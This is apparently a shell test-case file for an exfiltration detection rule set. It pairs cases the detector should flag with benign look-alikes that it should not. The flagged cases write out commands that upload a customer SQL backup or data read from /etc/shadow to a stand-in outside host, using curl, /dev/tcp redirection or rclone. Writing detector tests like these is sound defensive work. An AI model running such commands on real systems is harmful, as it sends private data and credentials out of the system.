# Cases of exfiltration.yaml.

fires_large_upload_to_outside_address() {
	head -c 6000000 /dev/zero >/tmp/loot
	curl -s -T /tmp/loot "http://$outside/loot"
}
quiet_large_upload_to_outside_address() {
	act connect 10.0.0.9:443 6000000
	act connect "$outside:443" 600000
}

fires_file_uploaded_by_command() { setsid curl -s -T /srv/backup/customers.sql "http://$outside/loot"; }
quiet_file_uploaded_by_command() { setsid curl -s "http://$outside/page"; }

fires_cloud_storage_client_run_below_server() {
	idle rclone
	server 'rclone copy /srv/backup remote:loot'
}
quiet_cloud_storage_client_run_below_server() {
	idle rclone
	rclone copy /srv/backup remote:backup
}

fires_data_sent_outside_after_secret_was_read() {
	cat /etc/shadow >/tmp/loot
	curl -s "http://$outside/page?$(wc -c </tmp/loot)"
}
quiet_data_sent_outside_after_secret_was_read() {
	cat /etc/passwd >/tmp/notes
	curl -s "http://$outside/page"
}

fires_data_sent_outside_by_shell_tool() { bash -c "exec cat /srv/backup/customers.sql >/dev/tcp/$outside/443"; }
quiet_data_sent_outside_by_shell_tool() {
	bash -c 'exec cat /srv/www/index.php >/dev/tcp/10.0.0.9/443'
	act connect "$outside:443" 6
}
